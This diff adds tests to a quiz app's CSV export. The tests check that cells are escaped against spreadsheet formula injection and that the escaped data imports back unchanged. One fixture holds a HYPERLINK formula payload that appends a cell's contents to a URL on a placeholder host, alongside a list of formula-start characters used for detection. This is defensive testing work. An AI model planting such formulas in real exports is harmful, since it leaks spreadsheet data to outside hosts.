@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from quizapp.domain.formats import ImportFormatError, Problem
 from quizapp.domain.formats.csv_format import emit, join_list, parse, split_list
+from quizapp.domain.formats.spreadsheet import formula_safe_cell, text_of_cell
 from quizapp.domain.questions import TRUE_FALSE_OPTIONS, QuestionDraft, QuestionType, Topic
 
 HEADER = "id,topic,type,prompt,answer,accepted_answers,options,explanation,source,tags\n"
@@ -167,3 +173,60 @@ def test_emit() -> None:
 def test_a_row_spanning_lines_is_reported_on_its_first_line() -> None:
     text = HEADER + 'q1,wars,short_answer,"Who led\nthe Breña\ncampaign?",Cáceres,,,,,\nq2,wars,short_answer,Who?,Lima,,,,,\n'
     assert [problem.line for problem in problems_of(text)] == [2, 5]
+
+
+# --- spreadsheet formulas ------------------------------------------------------------
+
+FORMULAS = QuestionDraft(
+    id="=q4",
+    topic=Topic.LEADERS,
+    type=QuestionType.MULTIPLE_CHOICE,
+    prompt='=HYPERLINK("http://example.com/?"&A1,"Who led the Breña campaign?")',
+    answer="+Cáceres",
+    options=("+Cáceres", "-Iglesias", "@Montero", "'=Piérola", "'Twas Prado"),
+    accepted_answers=("=1+1",),
+    explanation="-2 and '-3",
+    source="@caceres",
+    tags=("=tag", "plain"),
+)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_emitted_cells_never_start_a_formula() -> None:
+    [header, row] = list(csv.reader(io.StringIO(emit([FORMULAS]), newline="")))
+    assert row == [
+        "'=q4",
+        "leaders",
+        "multiple_choice",
+        '\'=HYPERLINK("http://example.com/?"&A1,"Who led the Breña campaign?")',
+        "'+Cáceres",
+        "'=1+1",
+        "'+Cáceres|-Iglesias|@Montero|'=Piérola|'Twas Prado",
+        "'-2 and '-3",
+        "'@caceres",
+        "'=tag|plain",
+    ]
+    assert not [cell for cell in header + row if cell.startswith(FORMULA_START)]
+
+
+def test_what_the_export_wrote_imports_back_unchanged() -> None:
+    assert parse(emit([FORMULAS])) == [FORMULAS]
+
+
+def test_a_leading_apostrophe_is_taken_off_only_before_a_formula_character() -> None:
+    text = HEADER + "q1,people,short_answer,'=Who led Breña?,'Cáceres,''=Andrés|'-A. C.,,'@x,'Twas,\n"
+    [draft] = parse(text)
+    assert (draft.prompt, draft.answer, draft.accepted_answers, draft.explanation, draft.source) == (
+        "=Who led Breña?",
+        "'Cáceres",
+        ("'=Andrés", "'-A. C."),  # a cell, not each item of it, is what a spreadsheet runs
+        "@x",
+        "'Twas",
+    )
+
+
+@given(st.text())
+def test_a_safe_cell_gives_back_its_text_and_never_starts_a_formula(text: str) -> None:
+    cell = formula_safe_cell(text)
+    assert text_of_cell(cell) == text
+    assert not cell.startswith(FORMULA_START)
